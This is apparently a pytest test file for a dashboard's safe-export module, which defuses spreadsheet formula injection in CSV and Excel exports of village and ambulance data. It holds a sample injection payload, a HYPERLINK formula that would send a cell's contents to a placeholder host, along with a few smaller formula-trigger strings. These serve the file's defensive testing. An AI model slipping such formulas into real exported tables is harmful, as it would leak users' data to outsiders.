"""Exported tables cannot carry spreadsheet formulas (ilp_dash.io.safe_export) — unit and at the export sites."""

from __future__ import annotations

import base64
import io
import types

import numpy as np
import openpyxl
import pandas as pd
import pytest

from ilp_dash.io.safe_export import safe_cells, safe_text

EVIL = '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")'


@pytest.mark.parametrize(
    "text", [EVIL, "+62 291 591", "-1+1", "@SUM(A1:A2)", "\tTab", "\rCR", "＝1+1", "-", "--x"]
)
def test_formula_starts_get_an_apostrophe(text):
    assert safe_text(text) == "'" + text


@pytest.mark.parametrize(
    "value",
    [
        "Kedungmalang",
        "Puskesmas Kedung I",
        "",
        " =spasi dulu",
        "-6.70755",
        "+5",
        "1e-3",
        -6.70755,
        -3,
        None,
        np.nan,
        True,
    ],
)
def test_plain_text_numbers_and_non_text_left_alone(value):
    assert safe_text(value) is value


def test_safe_cells_copies_and_keeps_numbers_and_dtypes():
    frame = pd.DataFrame(
        {
            "desa": ["Alas", EVIL, "@cmd", None],
            "lintang": [-6.5, -6.6, -6.7, -6.8],
            "jumlah": [-3, 4, 5, 6],
            "kelas": pd.Categorical(["A", "-B", "A", "A"]),
            "kode": pd.array(["33.20", "+33", "x", pd.NA], dtype="string"),
            "campur": pd.Series(["=x", None, -1, 2.5], dtype=object),
        }
    )
    before = frame.copy()
    out = safe_cells(frame)
    pd.testing.assert_frame_equal(frame, before)  # the caller's table is not changed
    assert out["desa"].tolist()[:3] == ["Alas", "'" + EVIL, "'@cmd"] and pd.isna(
        out["desa"].iloc[3]
    )
    assert out["desa"].dtype == frame["desa"].dtype
    assert out["lintang"].tolist() == [-6.5, -6.6, -6.7, -6.8] and out["lintang"].dtype == float
    assert out["jumlah"].tolist() == [-3, 4, 5, 6] and out["jumlah"].dtype == frame["jumlah"].dtype
    assert out["kelas"].tolist() == ["A", "'-B", "A", "A"]
    assert out["kode"].dtype == "string" and out["kode"].tolist()[:3] == ["33.20", "+33", "x"]
    assert out["campur"].tolist() == ["'=x", None, -1, 2.5] and out["campur"].dtype == object
    assert list(out.columns) == list(frame.columns) and out.index.equals(frame.index)


def test_duplicate_column_names_handled():
    frame = pd.DataFrame([["=a", "=b"]], columns=["nama", "nama"])
    assert safe_cells(frame).values.tolist() == [["'=a", "'=b"]]


def test_xlsx_written_from_a_safe_table_holds_text_not_a_formula():
    frame = pd.DataFrame({"nama": [EVIL], "lat": [-6.6]})
    buf = io.BytesIO()
    safe_cells(frame).to_excel(buf, index=False)
    ws = openpyxl.load_workbook(io.BytesIO(buf.getvalue())).active
    assert ws["A2"].data_type == "s" and ws["A2"].value == "'" + EVIL
    assert ws["B2"].value == -6.6
    raw = io.BytesIO()
    frame.to_excel(raw, index=False)  # without it, openpyxl writes the name as a live formula
    assert openpyxl.load_workbook(io.BytesIO(raw.getvalue())).active["A2"].data_type == "f"


# ------------------------------------------------------------------ at the export sites
def test_priority_csv_neutralises_a_village_name():
    from ilp_dash.ui.stunting_priority import priority_csv

    full = pd.DataFrame(
        {
            "peringkat": [1, 2],
            "kode_desa": ["33.20.01.2001", "33.20.01.2002"],
            "desa": [EVIL, "Kalianyar"],
            "kecamatan": ["Kedung", "-Kedung"],
            "skor": [90.0, -1.5],
        }
    )
    lines = priority_csv(full).splitlines()
    assert (
        lines[1]
        == '1,33.20.01.2001,"\'=HYPERLINK(""http://contoh.invalid/?d=""&A1,""Klik"")",Kedung,90.0'
    )
    assert lines[2] == "2,33.20.01.2002,Kalianyar,'-Kedung,-1.5"


@pytest.fixture(scope="module")
def ambulans_page():
    from ilp_dash.web.app import create_app

    create_app()  # pages register themselves once an app exists
    import ilp_dash.pages.ambulance as page

    return page


@pytest.mark.parametrize("button", ["amb-csv", "amb-xlsx"])
def test_ambulance_plan_export_neutralises_a_base_name(ambulans_page, monkeypatch, button):
    page = ambulans_page
    real = page.candidates

    def evil_candidates(code):
        frame = real(code).copy()
        frame.loc[frame.index[0], "nama"] = EVIL
        return frame

    monkeypatch.setattr(page, "candidates", evil_candidates)
    monkeypatch.setattr(page, "ctx", types.SimpleNamespace(triggered_id=button))
    out = page._export(1, 1, 2, 30, None, {"code": "33.20", "lang": "id"})
    if button == "amb-csv":
        table = pd.read_csv(io.StringIO(out["content"]))
    else:
        wb = openpyxl.load_workbook(io.BytesIO(base64.b64decode(out["content"])))
        ws = wb.active
        assert [c.data_type for c in ws[2]][1] == "s"
        assert not any(c.data_type == "f" for row in ws.iter_rows() for c in row)
        table = pd.read_excel(io.BytesIO(base64.b64decode(out["content"])))
    assert table["nama"].iloc[0] == "'" + EVIL
    assert (table["lat"] < 0).all() and table[
        "lat"
    ].dtype == float  # southern latitudes stay numbers
